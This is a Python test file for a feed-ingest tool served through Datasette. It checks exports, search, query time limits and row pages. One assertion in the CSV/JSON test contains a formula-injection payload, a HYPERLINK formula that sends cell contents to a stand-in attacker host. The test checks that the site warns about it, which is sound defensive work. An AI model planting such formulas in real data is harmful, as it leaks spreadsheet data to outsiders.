"""Field cases about publishing, taken in as captures and looked at through Datasette."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from click.testing import CliRunner

from ingest.cli import main
from ingest.sqlite import connect
from tests.shared import SHARED, needs_shared
from tests.web.large import make
from tests.web.site import QUERIES, TABLES, Site

pytestmark = needs_shared


def case(number: str) -> tuple[Path, dict[str, Any]]:
    [folder] = (SHARED / "cases").glob(f"{number}-*")
    return folder, json.loads((folder / "case.json").read_text(encoding="utf-8"))


@contextmanager
def published(folder: Path, body: bytes, name: str) -> Iterator[Site]:
    """One feed with one capture, imported by the command and served."""
    captures = folder / "captures"
    (captures / "case").mkdir(parents=True)
    (captures / "case" / name).write_bytes(body)
    settings = folder / "sources.toml"
    settings.write_text('[[source]]\nid = "case"\nkind = "feed"\nurl = "https://blog.example/feed.xml"\n')
    options = ["--sources", str(settings), "--archive", str(folder / "archive.db"), "--db", str(folder / "data.db")]
    result = CliRunner().invoke(main, [*options, "import", str(captures)])
    assert result.exit_code == 0, result.output
    site = Site(folder / "data.db")
    yield site
    site.close()


def test_112_csv_and_json_hold_what_is_stored_and_the_site_warns_of_formulas(tmp_path: Path) -> None:
    folder, told = case("112")
    with published(tmp_path, (folder / "input-1.xml").read_bytes(), "20260106T120000Z.xml") as site:
        connection = connect(tmp_path / "data.db", read_only=True)
        stored = {title for (title,) in connection.execute("SELECT title FROM feed_items")}
        connection.close()
        heading, *lines = site.csv("feed_items", _size="max")
        assert len(lines) == told["expect"]["items"]
        assert {line[heading.index("title")] for line in lines} == stored == {row["title"] for row in site.rows("feed_items")}
        assert '=HYPERLINK("http://evil.example/?"&A1)' in stored
        assert "spreadsheet" in site.get("/data").text


def test_113_characters_of_search_syntax_find_what_they_stand_in(tmp_path: Path) -> None:
    folder, told = case("113")
    rows = json.loads((folder / "input-1.json").read_text(encoding="utf-8"))["rows"]
    items = [{"id": str(number), "title": title} for number, title in enumerate(rows)]
    body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Rows", "items": items}).encode()
    with published(tmp_path, body, "20260106T120000Z.json") as site:
        for typed, expected in told["expect"]["queries"].items():
            found = {row["item_id"] for row in site.rows("search", q=typed)}
            if isinstance(expected, int):
                assert len(found) == expected, typed
            if expected:
                assert isinstance(expected, str) or len(site.rows("feed_items", _search=typed)) == expected, typed


def test_115_queries_keep_within_the_limit_at_the_size_of_the_case(tmp_path: Path) -> None:
    folder, told = case("115")
    sizes = json.loads((folder / "input-1.json").read_text(encoding="utf-8"))
    make(tmp_path / "data.db", fetches=sizes["fetches"], history_rows=sizes["versions"])
    site = Site(tmp_path / "data.db")
    limit = told["expect"]["every_canned_query_ms_below"]
    slow = [
        name
        for name in QUERIES
        if site.get(f"/data/{name}.json", {"_shape": "array", "_timelimit": str(limit)}).status_code != 200
    ]
    site.close()
    assert slow == []


def test_116_every_row_has_a_page_whatever_its_guid(tmp_path: Path) -> None:
    folder, told = case("116")
    with published(tmp_path, (folder / "input-1.xml").read_bytes(), "20260106T120000Z.xml") as site:
        items = site.rows("feed_items")
        assert len(items) == 2
        assert all(item["id"].isalnum() for item in items)
        for item in items:
            assert site.get(f"/data/feed_items/{item['id']}").status_code == told["expect"]["row_page_status"]
        for name in ("changes", "feed_item_history", "fetches", "presence"):
            assert TABLES[name]
            page = site.get(f"/data/{name}").text
            paths = [part.split('"')[0] for part in page.split(f'href="/data/{name}/')[1:]]
            assert paths
            assert all(site.get(f"/data/{name}/{path}").status_code == 200 for path in paths)
